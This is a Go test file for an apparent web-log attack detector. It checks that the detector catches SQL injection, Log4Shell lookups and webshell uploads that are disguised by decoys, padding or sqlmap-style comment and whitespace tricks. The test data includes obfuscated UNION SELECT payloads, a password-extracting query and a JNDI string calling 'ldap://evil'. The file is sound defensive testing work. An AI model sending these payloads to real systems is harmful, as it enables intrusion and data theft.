package detect

import (
	"strings"
	"testing"

	"github.com/logsift/logsift/internal/evidence"
)

// Decoy matches of a confirmed pattern must not use up the confirm checks
// and hide a real payload further on, in the same field or another.
func TestConfirmDecoys(t *testing.T) {
	pad := strings.Repeat("a", 3<<10)
	decoys := strings.Repeat("union/", 8)
	tests := []struct {
		name   string
		target string
		cat    evidence.Category
	}{
		{"decoys in the path, payload in the query", "/" + decoys + "?id=1+union+select+1,2", evidence.SQLInjection},
		{"decoys then padding in the query", "/p?" + strings.Repeat("q=union&", 8) + "pad=" + pad + "&id=1+union+select+1,2", evidence.SQLInjection},
		{"lookup decoys in the path, payload in the query", "/" + strings.Repeat("$%7Bx%7D/", 8) +
			"?x=$%7B$%7Blower:j%7Dndi:ldap://evil/a%7D", evidence.Log4Shell},
		{"upload padded with ./ segments", "/wp-content/uploads/" + strings.Repeat("./", 1<<10) + "x.php", evidence.Webshell},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := run(t, Config{}, []req{{ip: attacker, target: tc.target, status: 404, ua: browser}})
			a, _ := find(c, attacker)
			if hitFor(a, tc.cat) == nil {
				t.Fatalf("%s not found in %.120q", tc.cat, tc.target)
			}
		})
	}
}

// SQL hidden the way sqlmap's tamper scripts hide it.
func TestSQLDisguised(t *testing.T) {
	for _, tg := range []string{
		"/p?id=1%20/*!50000union*/%20/*!50000select*/%201,2",
		"/p?id=1%20union/*!select*/%201,2",
		"/p?id=-1%20UnIoN%0BSeLeCt%201,2",
		"/p?id=-1%20union%A0all%A0select%201,2",
		"/p?id=1+union/**/all/**/select+1,2",
		"/p?id=1%27%0Bor%0B%271%27=%271",
		"/p?q=x%27)%0Bselect%0Bpassword%0Bfrom%0Busers--",
	} {
		c := run(t, Config{}, []req{{ip: attacker, target: tg, status: 404, ua: browser}})
		if a, _ := find(c, attacker); hitFor(a, evidence.SQLInjection) == nil {
			t.Errorf("no SQL injection in %s", tg)
		}
	}
	// Words in a path are not a query.
	c := run(t, Config{}, []req{{ip: attacker, target: "/news/union/2024/select-committee", status: 404, ua: browser}})
	if a, _ := find(c, attacker); hitFor(a, evidence.SQLInjection) != nil {
		t.Error("SQL injection in a news path")
	}
}
